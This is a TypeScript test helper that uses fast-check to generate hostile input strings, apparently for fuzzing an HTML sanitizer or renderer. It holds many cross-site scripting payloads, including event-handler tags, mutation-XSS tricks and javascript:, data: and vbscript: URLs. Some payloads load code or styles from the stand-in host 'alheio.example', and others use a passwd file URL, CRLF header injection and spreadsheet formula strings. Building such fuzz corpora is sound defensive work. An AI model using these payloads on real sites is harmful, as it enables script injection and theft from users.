import { array, constantFrom, oneof, sample, tuple, type Arbitrary } from 'fast-check'

/** Hostile texts by a grammar. `trap()` must never run, nothing must come from this origin, and no element may have this mark. */
export const FOREIGN = 'alheio.example'
export const MARK = 'alheio'

const codes = constantFrom(
  'trap()',
  'top.trap()',
  "self['tr'+'ap']()",
  'trap``',
  `import('https://${FOREIGN}/x.js')`,
  `fetch('//${FOREIGN}/')`,
  'setTimeout(trap)',
)

const markups: ((code: string) => string)[] = [
  (code) => `<script ${MARK}>${code}</script>`,
  (code) => `<img ${MARK} src=x onerror="${code}">`,
  (code) => `<svg ${MARK} onload=${code}>`,
  (code) => `<svg ${MARK}><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<iframe ${MARK} srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<a ${MARK} href="javascript:${code}">x</a>`,
  (code) => `<details ${MARK} open ontoggle=${code}><summary>x`,
  (code) => `<input ${MARK} autofocus onfocus=${code}>`,
  (code) => `<video ${MARK}><source onerror=${code}></video>`,
  (code) => `<form ${MARK} action="javascript:${code}"><button>x</button></form>`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img ${MARK} title="--><img src=x onerror=${code}>">`,
  (code) => `<noscript><p title="</noscript><img ${MARK} src=x onerror=${code}>">`,
  (code) => `<template ${MARK}><script>${code}</script></template>`,
  (code) => `<x-${MARK} onclick=${code} style="animation:x" onanimationstart=${code}></x-${MARK}>`,
  () => `<link ${MARK} rel=stylesheet href=//${FOREIGN}/x.css>`,
  () => `<style ${MARK}>@import "https://${FOREIGN}/x.css";*{background:url(https://${FOREIGN}/x.png)}</style>`,
  () => `<base ${MARK} href=https://${FOREIGN}/>`,
  () => `<meta ${MARK} http-equiv=refresh content="0;url=https://${FOREIGN}/">`,
  () => `<object ${MARK} data=https://${FOREIGN}/x.swf></object>`,
  () => `<audio ${MARK} src=https://${FOREIGN}/x.mp3 autoplay>`,
]

const schemes: ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `javascript://${FOREIGN}/%0a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
  (code) => `vbscript:${code}`,
  () => 'file:///etc/passwd',
  () => `blob:https://${FOREIGN}/1`,
  () => '%0d%0aSet-Cookie: a=b',
]

const made = oneof(
  ...[markups, schemes].map((forms) => tuple(constantFrom(...forms), codes).map(([form, code]) => form(code))),
)

const odd = oneof(
  constantFrom('\u202e', '\u2066', '\u2069', '\u200f', '\u061c', '\ufeff', '\u200d', '\u00ad'),
  constantFrom('\ud800', '\udfff', 'a\udc00b', '\ud83d'),
  constantFrom('\u2028', '\u2029', '\u0085', '\v', '\f', '\r\n', '\0', '\u001b[31m'),
  constantFrom('=1+1', '+1', '-1', '@x', '\t=1', '|x'),
  constantFrom(
    'a'.repeat(400),
    'Ω\u0308'.repeat(200),
    'W'.repeat(200),
    `z${'\u0335\u0489'.repeat(60)}`,
    '👩‍👩‍👧'.repeat(40),
  ),
  constantFrom('__proto__', 'constructor', 'toString', 'null', 'NaN', '-0', 'true', '[object Object]'),
  constantFrom('"', "'", '`', '>', '-->', ']]>', '</textarea>', '</title>', '</style>', '\\', '&lt;', '&#x3c;'),
)

const corpus: Arbitrary<string> = oneof(
  made,
  odd,
  tuple(odd, made).map((parts) => parts.join('')),
  tuple(made, odd).map((parts) => parts.join('')),
  array(oneof(made, odd), { minLength: 2, maxLength: 3 }).map((parts) => parts.join(' ')),
)

/** @returns `count` different texts, the same ones for the same seed */
export function hostileWords(seed: number, count: number): readonly string[] {
  const words = new Set<string>()
  for (let round = 0; words.size < count; round += 1)
    for (const word of sample(corpus, { seed: seed + round, numRuns: count })) if (words.size < count) words.add(word)
  return [...words]
}
